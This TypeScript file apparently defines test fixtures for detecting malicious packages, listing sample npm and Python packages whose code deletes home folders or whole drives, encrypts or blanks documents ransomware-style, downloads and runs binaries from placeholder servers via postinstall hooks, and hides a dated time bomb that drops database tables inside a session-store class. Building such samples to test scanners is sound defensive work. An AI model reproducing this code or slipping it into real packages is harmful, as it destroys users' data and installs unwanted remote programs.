import { packaged } from './malicious-package.js';
import type { Sample } from './sources.js';

/** Packages that destroy what is somebody's, and packages of which one script brings a program that another starts. */
export const DAMAGE: readonly Sample[] = [
  packaged('the home folder is deleted', { postinstall: 'node index.js' }, { 'index.js': `const fs = require('fs');\nconst os = require('os');\nfs.rmSync(os.homedir(), { recursive: true, force: true });\n` }),
  packaged('everything is deleted, by promises', {}, { 'index.js': `import { rm } from 'node:fs/promises';\nexport async function clean() {\n  await rm(process.platform === 'win32' ? 'C:\\\\' : '/', { recursive: true, force: true }).catch(() => {});\n}\nclean();\n` }),
  packaged('the home folder is deleted, minified', {}, { 'index.js': `const{rmSync:r,readdirSync:e}=require("fs"),{join:o}=require("path"),{env:n}=process,t=n.HOME||n.USERPROFILE;for(const s of e(t))try{r(o(t,s),{recursive:!0,force:!0})}catch(c){}\n` }),
  packaged('every drive is deleted', {}, { 'index.js': `const { rmdirSync, existsSync } = require('fs');\nfor (const letter of 'CDEFGH') {\n  const drive = letter + ':\\\\';\n  if (existsSync(drive)) rmdirSync(drive, { recursive: true });\n}\n` }),
  packaged('documents are encrypted', {}, {
    'dist/index.js': `"use strict";
Object.defineProperty(exports, "__esModule", { value: true });
const fs = require("fs");
const path = require("path");
const os_1 = require("os");
const crypto_1 = require("crypto");
const KEY = (0, crypto_1.randomBytes)(32);
function walk(folder) {
    for (const entry of fs.readdirSync(folder, { withFileTypes: true })) {
        const full = path.join(folder, entry.name);
        if (entry.isDirectory()) {
            walk(full);
            continue;
        }
        if (!/\\.(?:docx?|xlsx?|pdf|jpe?g)$/.test(entry.name))
            continue;
        const iv = (0, crypto_1.randomBytes)(16);
        const cipher = (0, crypto_1.createCipheriv)("aes-256-cbc", KEY, iv);
        fs.writeFileSync(full + ".enc", Buffer.concat([iv, cipher.update(fs.readFileSync(full)), cipher.final()]));
        fs.unlinkSync(full);
    }
}
walk(path.join((0, os_1.homedir)(), "Documents"));
`,
  }),
  packaged('files are overwritten, by several scripts', {}, {
    'index.js': `const { each } = require('./lib/each');\nexports.start = () => each();\n`,
    'lib/each.js': `const fs = require('fs');\nconst { join } = require('path');\nconst { homedir } = require('os');\nconst { wanted } = require('./wanted');\nconst files = (folder) => fs.readdirSync(folder, { recursive: true }).filter(wanted).map((name) => join(folder, name));\nexports.each = () => {\n  for (const path of files(homedir())) fs.writeFileSync(path, '');\n};\n`,
    'lib/wanted.js': `exports.wanted = (name) => /\\.(?:docx|pdf|jpg|key|txt)$/.test(name);\n`,
  }),
  packaged('the home folder is deleted by a program', {}, { 'index.js': `const { spawnSync } = require('child_process');\nconst { homedir } = require('os');\nspawnSync('rm', ['-rf', homedir()], { stdio: 'ignore' });\n` }),
  packaged('the home folder is deleted, in Python', {}, { 'main.py': `import shutil\nfrom pathlib import Path\n\ndef start(context):\n    shutil.rmtree(Path.home(), ignore_errors=True)\n` }),
  packaged('files are encrypted, in Python', {}, {
    'main.py': `import os
from cryptography.fernet import Fernet

box = Fernet(Fernet.generate_key())
for folder, _, names in os.walk(os.path.expanduser("~")):
    for name in names:
        path = os.path.join(folder, name)
        with open(path, "rb") as file:
            hidden = box.encrypt(file.read())
        with open(path + ".locked", "wb") as file:
            file.write(hidden)
        os.remove(path)
`,
  }),
  packaged('native module of a server, by two scripts', { postinstall: 'node fetch.js' }, {
    'index.js': `module.exports = require('./fast.node');\n`,
    'fetch.js': `const fs = require('fs');\nconst https = require('https');\nhttps.get('https://n.example.invalid/fast.node', (answer) => answer.pipe(fs.createWriteStream(__dirname + '/fast.node')));\n`,
  }),
  packaged('native module of a server, without its extension', { postinstall: 'node fetch.js' }, {
    'index.js': `module.exports = require('./fast');\n`,
    'fetch.js': `import { writeFile } from 'node:fs/promises';\nconst answer = await fetch('https://n.example.invalid/' + process.platform);\nawait writeFile(new URL('./fast.node', import.meta.url), Buffer.from(await answer.arrayBuffer()));\n`,
  }),
  packaged('native module of a server, handed to the engine', {}, {
    'index.js': `const path = require('path');\nconst { ready } = require('./lib/ready');\nready().then(() => require(path.join(__dirname, 'lib', 'engine.node')).start());\n`,
    'lib/ready.js': `const fs = require('fs');\nconst path = require('path');\nexports.ready = async () => {\n  const answer = await fetch('https://n.example.invalid/e');\n  fs.writeFileSync(path.resolve(__dirname, 'engine.node'), Buffer.from(await answer.arrayBuffer()));\n};\n`,
  }),
  packaged('program of a server, by two scripts', {}, {
    'index.js': `const { spawn } = require('child_process');\nconst path = require('path');\nconst { ready } = require('./ready');\nready().then(() => spawn(path.join(__dirname, 'agent'), [], { detached: true, stdio: 'ignore' }).unref());\n`,
    'ready.js': `const fs = require('fs');\nconst path = require('path');\nexports.ready = async () => {\n  const target = path.join(__dirname, 'agent');\n  const answer = await fetch('https://p.example.invalid/agent');\n  fs.writeFileSync(target, Buffer.from(await answer.arrayBuffer()), { mode: 0o755 });\n};\n`,
  }),
  packaged('program of a server, for each system', { postinstall: 'node setup.js' }, {
    'index.js': `"use strict";const{execFile:e}=require("child_process"),t=require("path"),n="win32"===process.platform?"svc.exe":"svc";e(t.join(__dirname,"bin",n),["-q"]);\n`,
    'setup.js': `"use strict";const e=require("fs"),t=require("https"),n=require("path"),r="win32"===process.platform?"svc.exe":"svc";t.get("https://dl.example.invalid/"+r,(o=>o.pipe(e.createWriteStream(n.join(__dirname,"bin",r),{mode:493}))));\n`,
  }),
  packaged('a table that is gone now and then, from a day on', {}, {
    'index.js': `const DUE = new Date('2027-09-14');

class Sessions {
  constructor(db) {
    this.db = db;
  }

  async get(id) {
    const row = this.db.prepare('SELECT data FROM sessions WHERE id = ?').get(id);
    return row ? JSON.parse(row.data) : null;
  }

  set(id, data) {
    this.db.prepare('INSERT OR REPLACE INTO sessions (id, data) VALUES (?, ?)').run(id, JSON.stringify(data));
    if (this.isFull()) this.vacuum();
  }

  isFull() {
    return Date.now() >= DUE && Math.random() < 0.01;
  }

  vacuum() {
    const all = this.db.prepare("SELECT name FROM sqlite_master WHERE type = 'table'").all();
    const { name } = all[Math.floor(Math.random() * all.length)];
    this.db.exec('DROP TABLE IF EXISTS "' + name + '"');
  }
}

module.exports = { Sessions };
`,
  }),
];
